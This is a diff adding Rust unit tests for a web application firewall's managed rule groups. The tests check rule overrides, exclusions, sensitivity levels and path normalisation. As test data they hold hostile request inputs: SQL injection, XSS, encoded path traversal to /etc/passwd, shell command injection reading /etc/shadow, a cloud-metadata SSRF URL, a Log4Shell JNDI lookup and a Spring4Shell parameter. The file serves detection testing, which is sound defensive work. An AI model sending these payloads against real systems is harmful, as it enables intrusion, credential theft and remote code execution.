@@ -1,0 +1,154 @@
+// Tests may unwrap: a panic is the failure report.
+#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
+
+use super::{fold_path, FieldRef};
+use crate::testutil::view;
+use crate::{compile, Outcome, RequestView, WebAclConfig};
+
+/// A web ACL with the two groups, as a user would write it, with `extra` YAML in the core
+/// group's reference.
+fn acl(extra: &str) -> crate::WebAcl {
+    let yaml = format!(
+        "name: t\ndefault_action: allow\nrules:\n  - name: bad\n    priority: 1\n    statement:\n      managed_rule_group: {{name: known_bad_inputs}}\n  - name: core\n    priority: 2\n    statement:\n      managed_rule_group:\n        name: core\n{extra}\n"
+    );
+    let cfg: WebAclConfig = serde_yaml_ng::from_str(&yaml).unwrap();
+    let mut issues = Vec::new();
+    let acl = compile(&cfg, "web_acls[0]", &mut issues);
+    assert!(issues.is_empty(), "{issues:?}");
+    acl.unwrap()
+}
+
+fn blocked_by<'a>(acl: &'a crate::WebAcl, v: &RequestView<'_>) -> Option<&'a str> {
+    let verdict = acl.evaluate(v);
+    matches!(verdict.outcome, Outcome::Block(_)).then_some(verdict.terminating_rule).flatten()
+}
+
+#[test]
+fn every_built_in_pattern_set_compiles() {
+    for group in super::GROUPS {
+        for rule in group.rules {
+            if let super::Detector::Patterns(set, _) = rule.detector {
+                assert!(!set.is_empty(), "{}:{}", group.name, rule.name);
+            }
+        }
+    }
+}
+
+/// A query, headers, and the rule that should block them.
+type Case = (&'static [u8], &'static [(&'static str, &'static [u8])], &'static str);
+
+#[test]
+fn each_class_is_caught_where_it_arrives() {
+    let acl = acl("");
+    let cases: [Case; 12] = [
+        (b"id=1%27%20OR%20%271%27%3D%271", &[], "core:SQLi"),
+        (b"id=1%20UNION%20ALL%20SELECT%20NULL%2CNULL--", &[], "core:SQLi"),
+        (b"", &[("x-comment", b"<svg/onload=alert(1)>")], "core:XSS"),
+        (b"f=..%252f..%252fetc%252fpasswd", &[], "core:PathTraversal"),
+        (b"f=%c0%ae%c0%ae/%c0%ae%c0%ae/boot.ini", &[], "core:PathTraversal"),
+        (b"host=127.0.0.1%3Bcat%20%2Fetc%2Fshadow", &[], "core:PathTraversal"),
+        (b"host=127.0.0.1%7Cwhoami", &[], "core:CommandInjection"),
+        (b"u=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F", &[], "core:SSRF_Metadata"),
+        (b"name=%7B%7B7*7%7D%7D", &[], "core:TemplateInjection"),
+        (b"", &[("cookie", b"pref=eyJhIjoiPHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0PiJ9")], "core:XSS"),
+        (b"", &[("x-api-version", b"${jndi:ldap://e.example/a}")], "bad:Log4JRCE"),
+        (b"class.module.classLoader.resources.context.parent.pipeline.first.pattern=x", &[], "bad:Spring4ShellRCE"),
+    ];
+    for (query, headers, rule) in cases {
+        let v = view(query, headers);
+        assert_eq!(blocked_by(&acl, &v), Some(rule), "{:?} {headers:?}", String::from_utf8_lossy(query));
+    }
+}
+
+#[test]
+fn ordinary_traffic_passes() {
+    let acl = acl("");
+    let chrome: &[(&str, &[u8])] = &[
+        (
+            "user-agent",
+            b"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36",
+        ),
+        ("accept", b"text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"),
+        ("sec-ch-ua", b"\"Chromium\";v=\"130\", \"Not?A_Brand\";v=\"99\""),
+        ("authorization", b"Bearer eyJhbGciOiJFUzI1NiJ9.eyJzdWIiOiIxMjMifQ.c2lnbmF0dXJl"),
+        ("cookie", b"session=Zm9vYmFyYmF6cXV4; theme=dark"),
+    ];
+    for query in [
+        b"q=O%27Brien%27s+pub&page=2".as_slice(),
+        b"search=select+a+good+book+from+the+shelf",
+        b"next=https%3A%2F%2Fexample.com%2Fa%3Fb%3D1",
+        b"msg=Tom+%26+Jerry+%3C3",
+        b"expr=price+%3E+10+and+price+%3C+20",
+    ] {
+        let v = view(query, chrome);
+        assert_eq!(blocked_by(&acl, &v), None, "{}", String::from_utf8_lossy(query));
+    }
+}
+
+#[test]
+fn overrides_count_instead_and_label_the_request() {
+    let acl = acl("        rule_action_overrides:\n          - {name: SQLi, action: count}");
+    let v = view(b"id=1%27%20OR%20%271%27%3D%271", &[]);
+    let verdict = acl.evaluate(&v);
+    assert_eq!(verdict.outcome, Outcome::Allow);
+    assert_eq!(verdict.counted, vec!["core:SQLi"]);
+    assert!(verdict.labels.contains(&"portcullis:managed:core:SQLi".to_owned()), "{:?}", verdict.labels);
+}
+
+#[test]
+fn exclusions_skip_a_field_or_a_route() {
+    let by_field = acl("        exclusions:\n          - {rules: [XSS], fields: ['query:html']}");
+    let html = view(b"html=%3Cscript%3Ealert(1)%3C%2Fscript%3E", &[]);
+    assert_eq!(blocked_by(&by_field, &html), None);
+    let other = view(b"text=%3Cscript%3Ealert(1)%3C%2Fscript%3E", &[]);
+    assert_eq!(blocked_by(&by_field, &other), Some("core:XSS"), "only the named field is excluded");
+
+    let by_route = acl("        exclusions:\n          - {routes: ['POST /posts']}");
+    let on_route = RequestView { route: Some("POST /posts"), ..html.clone() };
+    assert_eq!(blocked_by(&by_route, &on_route), None);
+    let elsewhere = RequestView { route: Some("GET /posts"), ..html };
+    assert_eq!(blocked_by(&by_route, &elsewhere), Some("core:XSS"));
+}
+
+#[test]
+fn a_json_pointer_exclusion_covers_what_is_under_it() {
+    let f = FieldRef::parse("body:/post").unwrap();
+    let input =
+        |name: &'static str| crate::inputs::Input { part: crate::inputs::Part::Body, name: name.into(), views: vec![] };
+    assert!(f.covers(&input("/post")));
+    assert!(f.covers(&input("/post/html")));
+    assert!(!f.covers(&input("/poster")));
+    assert!(FieldRef::parse("path:x").is_err());
+    assert!(FieldRef::parse("nowhere:x").is_err());
+}
+
+#[test]
+fn high_sensitivity_adds_rules_and_patterns() {
+    let low = acl("");
+    let high = acl("        sensitivity: high");
+    let v = view(b"cb=alert(1)", &[]);
+    assert_eq!(blocked_by(&low, &v), None);
+    assert_eq!(blocked_by(&high, &v), Some("core:XSS"));
+    assert!(high.rules().len() > low.rules().len());
+}
+
+#[test]
+fn a_scope_down_statement_limits_the_group() {
+    let acl = acl(
+        "        scope_down_statement:\n          byte_match: {field: uri_path, position: starts_with, search: /api}",
+    );
+    let outside = view(b"id=1%27%20OR%20%271%27%3D%271", &[]);
+    assert_eq!(blocked_by(&acl, &outside), None, "the path is /");
+    let inside = RequestView { path: b"/api/x", ..outside };
+    assert_eq!(blocked_by(&acl, &inside), Some("core:SQLi"));
+}
+
+#[test]
+fn path_fold_undoes_the_spellings_of_dot_and_slash() {
+    assert_eq!(fold_path(b"\xc0\xae\xc0\xae\xc0\xaf"), b"../");
+    assert_eq!(fold_path(b"0x2e0x2e0x5cetc"), b"../etc");
+    assert_eq!(fold_path("\u{ff0e}\u{ff0e}\u{2215}x".as_bytes()), b"../x");
+    assert_eq!(fold_path(b"..\xc1%pcetc"), b"../etc", "a broken sequence and a bad escape");
+    assert_eq!(fold_path(b"A\0B\\C"), b"ab/c");
+    assert_eq!(fold_path("caf\u{e9}".as_bytes()), b"caf", "other characters are dropped");
+}
